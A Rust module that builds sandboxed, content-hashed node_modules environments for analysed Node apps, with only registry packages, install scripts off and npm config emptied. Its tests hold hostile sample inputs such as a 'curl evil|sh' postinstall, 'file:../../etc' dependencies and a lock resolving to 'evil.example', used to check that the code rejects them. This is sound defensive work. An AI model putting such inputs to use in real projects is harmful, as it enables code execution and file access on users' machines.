//! Each Node app (and each frontend run by its `package.json`) gets its `node_modules`
//! built from its own `package.json`, by the machine's `npm`: named by the content of what
//! it installs (the dependencies, the lock when it is used, the Node version), built once
//! and shared, like the Python environments of [`crate::analysis::envs`].
//!
//! Installing runs none of the model's code and none of the packages': `npm ci` /
//! `npm install` with `--ignore-scripts`, in a folder holding only a `package.json`
//! rebuilt from the app's dependencies (so no `.npmrc`, workspace or script of the app is
//! read). Packages that need their install script (native addons such as `bcrypt`) are
//! named in the result, and an app that needs one fails to start: its result. Dependencies
//! that are not from the registry (`file:`, `git+…`, `user/repo`, URLs) are left out and
//! said; a lock that points anywhere but the registry, or that no longer matches, is not
//! used and the dependencies are resolved afresh (what they resolved to is recorded).
//!
//! The environment is mounted read-only; the app sees it through a `node_modules` folder
//! of links in its own writable copy, so tools that write beside their packages (Vite's
//! `node_modules/.vite`) still can.

use crate::analysis::envs::{
    last_lines, run_installer, unavailable, AppEnv, EnvError, EnvKind, InstallerOutput,
    Requirements,
};
use sha2::{Digest, Sha256};
use std::path::Path;

/// The largest `package-lock.json` read.
const MAX_LOCK_BYTES: u64 = 32 * 1024 * 1024;
/// Where packages come from unless the worker says otherwise (`npm_config_registry`).
const DEFAULT_REGISTRY: &str = "https://registry.npmjs.org/";

/// What the app declares, as it will be installed.
#[derive(Debug, Clone)]
pub struct NodePackages {
    pub requirements: Requirements,
    /// The `package.json` written for the install.
    manifest: serde_json::Value,
    /// The app's lock, when it can be used as it is.
    lock: Option<String>,
}

/// The dependencies of the `package.json` in `workdir`, or `None` when there is none or
/// it declares nothing.
pub fn packages(app: &Path, workdir: &str) -> Option<NodePackages> {
    let rel = if workdir.is_empty() {
        "package.json".to_string()
    } else {
        format!("{workdir}/package.json")
    };
    let text = crate::analysis::recipe::read_small(&app.join(&rel))?;
    let mut reqs = Requirements {
        from: vec![rel.clone()],
        lines: Vec::new(),
        left_out: Vec::new(),
    };
    let package: serde_json::Value = match serde_json::from_str(&text) {
        Ok(p) => p,
        Err(e) => {
            reqs.left_out.push(format!("{rel}: not valid JSON ({e})"));
            return Some(NodePackages {
                requirements: reqs,
                manifest: serde_json::json!({"name": "assay-app", "private": true}),
                lock: None,
            });
        }
    };
    let mut manifest = serde_json::Map::new();
    for key in ["name", "version"] {
        if let Some(v) = package.get(key).filter(|v| v.is_string()) {
            manifest.insert(key.into(), v.clone());
        }
    }
    manifest.insert("private".into(), true.into());
    for section in ["dependencies", "devDependencies"] {
        let Some(deps) = package.get(section).and_then(|d| d.as_object()) else {
            continue;
        };
        let mut kept = serde_json::Map::new();
        for (name, spec) in deps {
            let shown = format!("{rel}: {section}.{name}");
            let Some(spec) = spec.as_str() else {
                reqs.left_out.push(format!("{shown}: not a version"));
                continue;
            };
            if let Err(why) = registry_dependency(name, spec) {
                reqs.left_out.push(format!("{shown} `{spec}` ({why})"));
                continue;
            }
            if reqs.lines.len() >= crate::analysis::envs::MAX_REQUIREMENTS {
                reqs.left_out.push(format!(
                    "{shown}: past the {}-dependency limit",
                    crate::analysis::envs::MAX_REQUIREMENTS
                ));
                continue;
            }
            reqs.lines.push(format!("{name}@{spec}"));
            kept.insert(name.clone(), spec.into());
        }
        if !kept.is_empty() {
            manifest.insert(section.into(), kept.into());
        }
    }
    if reqs.lines.is_empty() {
        return None;
    }
    let lock_rel = match workdir {
        "" => "package-lock.json".to_string(),
        w => format!("{w}/package-lock.json"),
    };
    let lock = if reqs.left_out.is_empty() {
        usable_lock(&app.join(&lock_rel), &lock_rel, &mut reqs)
    } else if app.join(&lock_rel).exists() {
        reqs.left_out.push(format!(
            "{lock_rel}: not used (dependencies were left out, so it no longer matches); resolved afresh"
        ));
        None
    } else {
        None
    };
    if lock.is_some() {
        reqs.from.push(lock_rel);
    }
    Some(NodePackages {
        requirements: reqs,
        manifest: manifest.into(),
        lock,
    })
}

/// A dependency npm fetches from the registry by name: a version, a range or a tag.
fn registry_dependency(name: &str, spec: &str) -> Result<(), &'static str> {
    let name_ok = !name.is_empty()
        && name.len() <= 214
        && !name.starts_with('.')
        && name.split('/').count() <= 2
        && (name.starts_with('@') || !name.contains('/'))
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-._~@/".contains(c));
    if !name_ok {
        return Err("not a package name");
    }
    registry_spec(spec)
}

/// A version, a range (`^4.18.2`, `>=1 <2`, `1.x`, `*`) or a tag (`latest`): what npm
/// resolves on the registry. Anything else (`file:`, `git+…`, `user/repo`, `..`,
/// `x.tgz`, URLs) npm would take from somewhere else.
fn registry_spec(spec: &str) -> Result<(), &'static str> {
    let lowered = spec.trim().to_ascii_lowercase();
    let foreign = lowered.starts_with('.')
        || [".tgz", ".tar", ".tar.gz"]
            .iter()
            .any(|e| lowered.ends_with(e))
        || !spec
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || " .-+^~<>=|*".contains(c));
    if foreign {
        return Err("not from the registry; only registry packages are installed");
    }
    if spec.len() > 200 {
        return Err("not a version");
    }
    // A tag is a name: it starts with a letter (`latest`, `next`), a range does not.
    let tag = spec
        .trim()
        .starts_with(|c: char| c.is_ascii_alphabetic() && c != 'x');
    if tag && spec.trim().contains(' ') {
        return Err("not a version, a range or a tag");
    }
    Ok(())
}

/// The app's `package-lock.json` when npm can install from it exactly: lockfile v2 or
/// later, every package from the registry. Otherwise `None`, and why is said.
fn usable_lock(path: &Path, rel: &str, reqs: &mut Requirements) -> Option<String> {
    use std::io::Read;
    use std::os::unix::fs::OpenOptionsExt;
    let file = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(path)
        .ok()?;
    let meta = file.metadata().ok()?;
    if !meta.is_file() {
        return None;
    }
    if meta.len() > MAX_LOCK_BYTES {
        reqs.left_out.push(format!(
            "{rel}: larger than {} MiB; not used, resolved afresh",
            MAX_LOCK_BYTES >> 20
        ));
        return None;
    }
    let mut text = String::new();
    if file.take(MAX_LOCK_BYTES).read_to_string(&mut text).is_err() {
        reqs.left_out
            .push(format!("{rel}: not UTF-8; not used, resolved afresh"));
        return None;
    }
    let lock: serde_json::Value = match serde_json::from_str(&text) {
        Ok(l) => l,
        Err(e) => {
            reqs.left_out.push(format!(
                "{rel}: not valid JSON ({e}); not used, resolved afresh"
            ));
            return None;
        }
    };
    let version = lock
        .get("lockfileVersion")
        .and_then(|v| v.as_u64())
        .unwrap_or(0);
    let Some(packages) = lock.get("packages").and_then(|p| p.as_object()) else {
        reqs.left_out.push(format!(
            "{rel}: lockfile version {version} has no `packages`; not used, resolved afresh"
        ));
        return None;
    };
    let registry = registry();
    for (key, entry) in packages {
        if !lock_entry_from_registry(key, entry, &registry) {
            reqs.left_out.push(format!(
                "{rel}: `{key}` is not from the registry; the lock is not used, resolved afresh"
            ));
            return None;
        }
    }
    Some(text)
}

/// One `packages` entry of a lock npm would fetch from the registry only: a package
/// under `node_modules/` with an exact version, resolved at the registry, and whose own
/// dependencies are registry specs too (the root entry: its dependencies only).
fn lock_entry_from_registry(key: &str, entry: &serde_json::Value, registry: &str) -> bool {
    let deps_ok = [
        "dependencies",
        "devDependencies",
        "optionalDependencies",
        "peerDependencies",
    ]
    .iter()
    .filter_map(|section| entry.get(section).and_then(|d| d.as_object()))
    .flatten()
    .all(|(_, spec)| spec.as_str().is_some_and(|s| registry_spec(s).is_ok()));
    if key.is_empty() {
        return deps_ok;
    }
    let exact_version = entry
        .get("version")
        .and_then(|v| v.as_str())
        .is_some_and(|v| {
            v.starts_with(|c: char| c.is_ascii_digit())
                && v.chars()
                    .all(|c| c.is_ascii_alphanumeric() || ".-+".contains(c))
        });
    let resolved = entry
        .get("resolved")
        .and_then(|r| r.as_str())
        .is_some_and(|r| r.starts_with(registry) && !r.contains(".."));
    let linked = entry.get("link").and_then(|l| l.as_bool()) == Some(true);
    key.starts_with("node_modules/")
        && !key.contains("..")
        && exact_version
        && resolved
        && !linked
        && deps_ok
}

fn registry() -> String {
    let configured = ["npm_config_registry", "NPM_CONFIG_REGISTRY"]
        .iter()
        .find_map(|k| std::env::var(k).ok())
        .unwrap_or_else(|| DEFAULT_REGISTRY.to_string());
    if configured.ends_with('/') {
        configured
    } else {
        configured + "/"
    }
}

fn program(name: &str) -> Result<std::path::PathBuf, EnvError> {
    crate::analysis::static_tools::find_program(name).ok_or_else(|| {
        EnvError::Unavailable(format!(
            "`{name}` is not installed (Node.js and npm: `apt-get install nodejs npm`)"
        ))
    })
}

/// `v20.20.2`, asked once.
fn node_version() -> Result<String, EnvError> {
    static FOUND: std::sync::OnceLock<Result<String, String>> = std::sync::OnceLock::new();
    FOUND
        .get_or_init(|| {
            let node = program("node").map_err(|e| e.to_string())?;
            let out = std::process::Command::new(node)
                .arg("--version")
                .output()
                .map_err(|e| format!("`node` cannot be run: {e}"))?;
            Ok(String::from_utf8_lossy(&out.stdout).trim().to_string())
        })
        .clone()
        .map_err(EnvError::Unavailable)
}

/// The `node_modules` for these packages: built now, or found built.
pub async fn prepare(packages: &NodePackages) -> Result<AppEnv, EnvError> {
    let node = node_version()?;
    let mut hasher = Sha256::new();
    hasher.update(b"node\0");
    hasher.update(node.as_bytes());
    hasher.update([0]);
    hasher.update(packages.manifest.to_string().as_bytes());
    hasher.update([0]);
    hasher.update(packages.lock.as_deref().unwrap_or("").as_bytes());
    let digest = format!("node-{}", hex::encode(&hasher.finalize()[..12]));
    let base = crate::analysis::envs::dir();
    std::fs::create_dir_all(&base).map_err(|e| unavailable(&base, e))?;
    let root = base.join(&digest);
    let lock = crate::analysis::envs::lock_exclusive(base.join(format!("{digest}.lock")))
        .await
        .map_err(|e| unavailable(&base, e))?;
    let result = build_or_reuse(&root, &digest, packages).await;
    drop(lock);
    result
}

async fn build_or_reuse(
    root: &Path,
    digest: &str,
    packages: &NodePackages,
) -> Result<AppEnv, EnvError> {
    let reqs = &packages.requirements;
    let from = reqs.from.join(", ");
    let status_file = root.join("status");
    let env = || AppEnv {
        kind: EnvKind::Node,
        digest: digest.to_string(),
        root: root.to_path_buf(),
        requirements: {
            let mut reqs = reqs.clone();
            let notes = std::fs::read_to_string(root.join("notes")).unwrap_or_default();
            reqs.left_out.extend(notes.lines().map(str::to_string));
            reqs
        },
        locked: installed(root),
        install_scripts_not_run: with_install_scripts(root),
        log: root.join("build.log"),
    };
    if let Ok(status) = std::fs::read_to_string(&status_file) {
        return match status.split_once('\n') {
            Some(("does-not-install", message)) => Err(EnvError::DoesNotInstall {
                from,
                message: message.to_string(),
            }),
            _ => Ok(env()),
        };
    }
    // A build a kill cut short is started over.
    let _ = std::fs::remove_dir_all(root);
    std::fs::create_dir_all(root).map_err(|e| unavailable(root, e))?;
    let npm = program("npm")?;
    let manifest = serde_json::to_string_pretty(&packages.manifest).unwrap_or_default();
    std::fs::write(root.join("package.json"), manifest).map_err(|e| unavailable(root, e))?;
    // Empty: npm reads no configuration of this machine's users (tokens, registries).
    for config in ["npmrc", "npmrc-global"] {
        std::fs::write(root.join(config), "").map_err(|e| unavailable(root, e))?;
    }
    let mut log = String::new();
    let mut notes = Vec::new();
    if let Some(lock) = &packages.lock {
        std::fs::write(root.join("package-lock.json"), lock).map_err(|e| unavailable(root, e))?;
        let ci = run_npm(&npm, "ci", root).await?;
        log.push_str(&ci.text);
        if !ci.success {
            check_infrastructure(root, &ci.text)?;
            // A lock that does not install (out of sync, made-up integrity hashes): the
            // packages are resolved afresh, as `npm install` would for a user.
            notes.push(format!(
                "package-lock.json could not be installed from ({}); resolved afresh",
                npm_error_code(&ci.text).unwrap_or("npm ci failed")
            ));
            let _ = std::fs::remove_dir_all(root.join("node_modules"));
            let _ = std::fs::remove_file(root.join("package-lock.json"));
        }
    }
    if !root.join("node_modules").is_dir() || !notes.is_empty() {
        let install = run_npm(&npm, "install", root).await?;
        log.push_str(&install.text);
        let _ = std::fs::write(root.join("build.log"), &log);
        if !install.success {
            let _ = std::fs::write(root.join("build.log"), &log);
            check_infrastructure(root, &install.text)?;
            let message = last_lines(&install.text, 12);
            let _ = std::fs::remove_dir_all(root.join("node_modules"));
            std::fs::write(&status_file, format!("does-not-install\n{message}"))
                .map_err(|e| unavailable(root, e))?;
            return Err(EnvError::DoesNotInstall { from, message });
        }
    }
    let _ = std::fs::write(root.join("build.log"), &log);
    std::fs::write(root.join("notes"), notes.join("\n")).map_err(|e| unavailable(root, e))?;
    std::fs::write(
        root.join("requirements.lock"),
        installed(root).join("\n") + "\n",
    )
    .map_err(|e| unavailable(root, e))?;
    std::fs::write(&status_file, "ok\n").map_err(|e| unavailable(root, e))?;
    Ok(env())
}

async fn run_npm(npm: &Path, verb: &str, root: &Path) -> Result<InstallerOutput, EnvError> {
    let args = [
        verb,
        "--ignore-scripts",
        "--no-audit",
        "--no-fund",
        "--no-update-notifier",
        "--loglevel=warn",
        "--include=dev",
        // Whatever a package deep in the tree asks for: from the registry, or not at all.
        "--allow-git=none",
        "--allow-remote=none",
        "--allow-file=none",
        "--allow-directory=none",
    ];
    let mut cmd = crate::analysis::envs::installer_command(npm, root, NPM_ENV_ALLOWED);
    cmd.args(args)
        .env(
            "npm_config_cache",
            crate::analysis::envs::dir().join("npm-cache"),
        )
        .env("npm_config_registry", registry())
        .env("npm_config_userconfig", root.join("npmrc"))
        .env("npm_config_globalconfig", root.join("npmrc-global"));
    // A slow registry is this machine's trouble, not the app's.
    let out = run_installer(cmd, "npm").await?.ok_or_else(|| {
        EnvError::Unavailable(format!(
            "npm {verb} took longer than {} min",
            crate::analysis::envs::BUILD_TIMEOUT.as_secs() / 60
        ))
    })?;
    Ok(InstallerOutput {
        success: out.success,
        text: format!("$ npm {}\n{}", args.join(" "), out.text),
    })
}

/// A failed npm run (`log` is that run's own output) that is this machine's trouble:
/// retried, and nothing is kept. Only npm's error code decides, never other text of the
/// log (which holds the app's own names and versions): a code for what the app asked
/// for is the app's; a network code, or any code not known to be the app's, is not.
fn check_infrastructure(root: &Path, log: &str) -> Result<(), EnvError> {
    let code = npm_error_code(log);
    if code.is_some_and(|c| APP_ERROR_CODES.contains(&c)) {
        return Ok(());
    }
    let _ = std::fs::remove_dir_all(root.join("node_modules"));
    let _ = std::fs::remove_file(root.join("status"));
    let why = if code.is_some_and(|c| NETWORK_ERROR_CODES.contains(&c)) {
        "the npm registry could not be reached"
    } else {
        "npm failed for a reason that is not the app's"
    };
    Err(EnvError::Unavailable(format!(
        "{why}: {}",
        last_lines(log, 4)
    )))
}

/// npm's codes for a registry it could not reach.
const NETWORK_ERROR_CODES: &[&str] = &[
    "ENOTFOUND",
    "ECONNREFUSED",
    "ECONNRESET",
    "ETIMEDOUT",
    "EAI_AGAIN",
    "ENETUNREACH",
    "EHOSTUNREACH",
    "ERR_SOCKET_TIMEOUT",
    "E500",
    "E502",
    "E503",
    "E504",
];

/// npm's error codes for what the app asked for: a package or version that does not
/// exist, dependencies that conflict, a lock that does not match or does not verify, a
/// name that is not a name.
const APP_ERROR_CODES: &[&str] = &[
    "E404",
    "ETARGET",
    "ERESOLVE",
    "EUSAGE",
    "EINTEGRITY",
    "EINVALIDTAGNAME",
    "EINVALIDPACKAGENAME",
    "EBADENGINE",
    "ENOVERSIONS",
    "EJSONPARSE",
    "EBADPLATFORM",
];

/// `E404` in `npm error code E404` (`npm ERR! code` in older npm).
fn npm_error_code(log: &str) -> Option<&str> {
    log.lines().find_map(|l| {
        l.strip_prefix("npm error code ")
            .or_else(|| l.strip_prefix("npm ERR! code "))
            .map(str::trim)
    })
}

/// The worker's settings that say where packages come from; nothing else of its
/// environment (no tokens) reaches npm.
const NPM_ENV_ALLOWED: &[&str] = &[
    "SSL_CERT_FILE",
    "NODE_EXTRA_CA_CERTS",
    "HTTPS_PROXY",
    "HTTP_PROXY",
    "NO_PROXY",
    "https_proxy",
    "http_proxy",
    "no_proxy",
];

/// The lock npm left: every package installed, as `name@version`.
fn lock_packages(root: &Path) -> Vec<(String, serde_json::Value)> {
    let Ok(text) = std::fs::read_to_string(root.join("package-lock.json")) else {
        return Vec::new();
    };
    let Ok(lock) = serde_json::from_str::<serde_json::Value>(&text) else {
        return Vec::new();
    };
    let Some(packages) = lock.get("packages").and_then(|p| p.as_object()) else {
        return Vec::new();
    };
    packages
        .iter()
        .filter_map(|(key, entry)| {
            let name = key.rsplit_once("node_modules/")?.1;
            Some((name.to_string(), entry.clone()))
        })
        .collect()
}

fn installed(root: &Path) -> Vec<String> {
    let mut all: Vec<String> = lock_packages(root)
        .into_iter()
        .filter_map(|(name, entry)| {
            let version = entry.get("version")?.as_str()?;
            Some(format!("{name}@{version}"))
        })
        .collect();
    all.sort();
    all.dedup();
    all
}

fn with_install_scripts(root: &Path) -> Vec<String> {
    let mut all: Vec<String> = lock_packages(root)
        .into_iter()
        .filter(|(_, entry)| entry.get("hasInstallScript").and_then(|h| h.as_bool()) == Some(true))
        .map(|(name, _)| name)
        .collect();
    all.sort();
    all.dedup();
    all
}

/// Make `node_modules` in `workdir` (an instance's own copy of the app) a folder of links
/// to the environment's packages; an app's own `node_modules` is replaced.
pub fn link_into(env_modules: &Path, copy: &Path, workdir: &Path) -> std::io::Result<()> {
    // Never through a link out of the copy (a workdir that is a link to a host folder).
    let inside = workdir.canonicalize()?.starts_with(copy.canonicalize()?);
    if !inside {
        return Err(std::io::Error::other(format!(
            "{} leads out of the app",
            workdir.display()
        )));
    }
    let target = workdir.join("node_modules");
    match std::fs::symlink_metadata(&target) {
        Ok(m) if m.is_dir() => std::fs::remove_dir_all(&target)?,
        Ok(_) => std::fs::remove_file(&target)?,
        Err(_) => {}
    }
    std::fs::create_dir_all(&target)?;
    for entry in std::fs::read_dir(env_modules)? {
        let entry = entry?;
        std::os::unix::fs::symlink(entry.path(), target.join(entry.file_name()))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::tree_of as app;

    #[test]
    fn registry_dependencies_are_kept_and_the_rest_left_out_and_said() {
        let dir = app(&[(
            "server/package.json",
            r#"{"name":"todo","scripts":{"start":"node index.js","postinstall":"curl evil|sh"},
                "dependencies":{"express":"^4.18.2","left-pad":"latest","local":"file:../../etc",
                  "gh":"someone/repo","git":"git+https://x/y.git","../evil":"1.0.0","@scope/pkg":"~1.2"},
                "devDependencies":{"nodemon":"3.0.1"}}"#,
        )]);
        let found = packages(dir.path(), "server").unwrap();
        assert_eq!(
            found.requirements.lines,
            [
                "@scope/pkg@~1.2",
                "express@^4.18.2",
                "left-pad@latest",
                "nodemon@3.0.1"
            ]
        );
        assert_eq!(
            found.requirements.left_out.len(),
            4,
            "{:?}",
            found.requirements.left_out
        );
        // Nothing of the app but its dependencies reaches npm: no scripts.
        assert!(found.manifest.get("scripts").is_none());
        assert_eq!(found.manifest["private"], true);
        // Nothing declared: no environment.
        let dir = app(&[("package.json", r#"{"scripts":{"start":"node x.js"}}"#)]);
        assert!(packages(dir.path(), "").is_none());
    }

    #[test]
    fn a_lock_is_used_only_when_every_package_comes_from_the_registry() {
        let good = r#"{"lockfileVersion":3,"packages":{"":{"dependencies":{"ms":"2.1.3"}},
            "node_modules/ms":{"version":"2.1.3","resolved":"https://registry.npmjs.org/ms/-/ms-2.1.3.tgz"}}}"#;
        let dir = app(&[
            ("package.json", r#"{"dependencies":{"ms":"2.1.3"}}"#),
            ("package-lock.json", good),
        ]);
        let found = packages(dir.path(), "").unwrap();
        assert!(found.lock.is_some());
        assert_eq!(
            found.requirements.from,
            ["package.json", "package-lock.json"]
        );
        let evil = good.replace("https://registry.npmjs.org/ms/-/", "https://evil.example/");
        let dir = app(&[
            ("package.json", r#"{"dependencies":{"ms":"2.1.3"}}"#),
            ("package-lock.json", &evil),
        ]);
        let found = packages(dir.path(), "").unwrap();
        assert!(found.lock.is_none());
        assert!(
            found.requirements.left_out[0].contains("not from the registry"),
            "{:?}",
            found.requirements.left_out
        );
        // No `resolved`: npm would install what `version` says, a folder or a repository.
        for entry in [
            r#"{"version":"file:/etc"}"#,
            r#"{"version":"git+file:///tmp/repo"}"#,
            r#"{"version":"2.1.3"}"#,
            r#"{"version":"2.1.3","resolved":"https://registry.npmjs.org/ms/-/ms-2.1.3.tgz","dependencies":{"x":"git+https://h/x.git"}}"#,
        ] {
            let lock = format!(
                r#"{{"lockfileVersion":3,"packages":{{"":{{"dependencies":{{"ms":"*"}}}},"node_modules/ms":{entry}}}}}"#
            );
            let dir = app(&[
                ("package.json", r#"{"dependencies":{"ms":"*"}}"#),
                ("package-lock.json", &lock),
            ]);
            assert!(packages(dir.path(), "").unwrap().lock.is_none(), "{entry}");
        }
    }

    #[test]
    fn only_npms_error_code_tells_the_apps_failure_from_the_machines() {
        let dir = tempfile::tempdir().unwrap();
        let refused = "npm error code ECONNREFUSED\nnpm error network request to http://127.0.0.1:9/ms failed";
        assert!(matches!(
            check_infrastructure(dir.path(), refused),
            Err(EnvError::Unavailable(m)) if m.contains("could not be reached")
        ));
        let missing = "npm error code E404\nnpm error 404 Not Found - GET https://registry.npmjs.org/no-such-pkg-x";
        assert_eq!(npm_error_code(missing), Some("E404"));
        assert!(check_infrastructure(dir.path(), missing).is_ok());
        // The app's own words (a version named ENOTFOUND) change nothing.
        let named = "npm error code ETARGET\nnpm error notarget No matching version found for ms@ENOTFOUND.";
        assert!(check_infrastructure(dir.path(), named).is_ok());
        // A code not known to be the app's is not held against it.
        assert!(matches!(
            check_infrastructure(
                dir.path(),
                "npm error code EACCES\nnpm error permission denied"
            ),
            Err(EnvError::Unavailable(_))
        ));
    }

    #[test]
    fn specs_npm_would_take_from_elsewhere_are_refused() {
        for good in [
            "^4.18.2",
            "4.x",
            "*",
            "",
            ">=1.2 <2",
            "latest",
            "~1.2.3-beta.1",
            "1 || 2",
        ] {
            assert!(registry_spec(good).is_ok(), "{good}");
        }
        for bad in [
            "..",
            ".",
            "x.tgz",
            "pkg.tar.gz",
            "file:../x",
            "git+https://h/x.git",
            "user/repo",
            "https://h/x.tgz",
            "npm:evil@1",
            "latest tag",
        ] {
            assert!(registry_spec(bad).is_err(), "{bad}");
        }
    }
}
